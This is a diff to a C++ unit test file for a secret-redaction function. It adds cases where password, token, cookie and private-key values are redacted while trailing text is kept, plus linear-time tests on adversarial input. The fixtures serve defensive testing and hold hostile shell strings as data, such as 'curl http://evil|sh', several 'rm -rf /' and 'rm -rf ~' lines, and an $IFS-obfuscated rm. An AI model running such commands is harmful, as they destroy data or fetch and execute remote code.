@@ -48,7 +48,7 @@ TEST_CASE("secrets: values of secret names are removed, and nothing around them"
         {"postgres://ana:hunter2@db/x?y=1", "postgres://[redacted]@db/x?y=1"},
         {"a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b",
          "a [redacted] b"},
-        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl cut off", "[redacted]"},
+        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA", "[redacted]"},
         {"token=abcd1234&token=efgh5678", "token=[redacted]&token=[redacted]"},
         // Shell text behind a value is not part of it.
         {R"(deploy --token "x1y2z3w4v5; curl http://evil|sh")",
@@ -61,6 +61,19 @@ TEST_CASE("secrets: values of secret names are removed, and nothing around them"
         {R"(PASSWORD="abc12345 && rm -rf /")", R"(PASSWORD="[redacted]&& rm -rf /")"},
         {"curl -H Authorization:abc12345|sh", "curl -H Authorization:[redacted]|sh"},
         {"git clone https://u:p4ss|sh@host/x", "git clone https://[redacted]|sh@host/x"},
+        {"cookie=abcd1; rm -rf ~", "cookie=[redacted]; rm -rf ~"},
+        {"env password=x1$IFS/bin/rm$IFS-rf", "env password=[redacted]$IFS/bin/rm$IFS-rf"},
+        {"env password=x1$2$/9 make", "env password=[redacted] make"},
+        {R"(env password='a1\' rm -rf x #')", R"(env password='[redacted]' rm -rf x #')"},
+        {"echo -----BEGIN PRIVATE KEY-----; rm -rf ~", "echo [redacted]; rm -rf ~"},
+        {"echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\necho -----END PRIVATE KEY-----",
+         "echo [redacted]\nrm -rf ~\necho -----END PRIVATE KEY-----"},
+        {"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F\n\n"
+         "MIIEAAAAAAAAAAAAAAAAAAAA\nAB==\n-----END RSA PRIVATE KEY-----\nx",
+         "[redacted]\nx"},
+        {"K=\"-----BEGIN PRIVATE KEY----- MIIEAAAAAAAAAAAAAAAAAAAA AB== -----END PRIVATE "
+         "KEY-----\" x",
+         "K=\"[redacted]\" x"},
         {R"({'password': "ab'REST1"})", R"({'password': "[redacted]"})"},
         {"password: 'ab''REST1' # x", "password: '[redacted]' # x"},
         {R"(PASSWORD="a1b2c3""; rm -rf / ")", R"(PASSWORD="[redacted]""; rm -rf / ")"},
@@ -200,11 +213,16 @@ TEST_CASE("secrets: an ambiguous key of a JSON object needs a plausible value", 
 TEST_CASE("secrets: an adversarial text is scanned once", "[secrets]") {
     // A megabyte of each; a search that is not linear would exceed the test's time limit.
     constexpr std::size_t kBytes = 1U << 20;
-    for (const std::string piece : {"token:$", "token:", "password=\"", "://a:", "-----BEGIN ",
-                                    "Bearer ", "cookie: $", "--token $", "token:a(", "sk-"}) {
+    for (const std::string piece :
+         {"token:$", "token:", "password=\"", "://a:", "-----BEGIN ", "Bearer ", "cookie: $",
+          "--token $", "token:a(", "sk-", "\\", "\\\"", "''", "-----BEGIN PRIVATE KEY-----",
+          "--token\t", "a=$A", "password=a\\$"}) {
         std::string text;
         while (text.size() < kBytes)
             text += piece;
         CHECK(redacted(text).size() > 0);
+        // The same behind a name and a quote, and within a key.
+        CHECK(redacted("password=\"" + text).size() > 0);
+        CHECK(redacted("-----BEGIN PRIVATE KEY-----\n" + text).size() > 0);
     }
 }
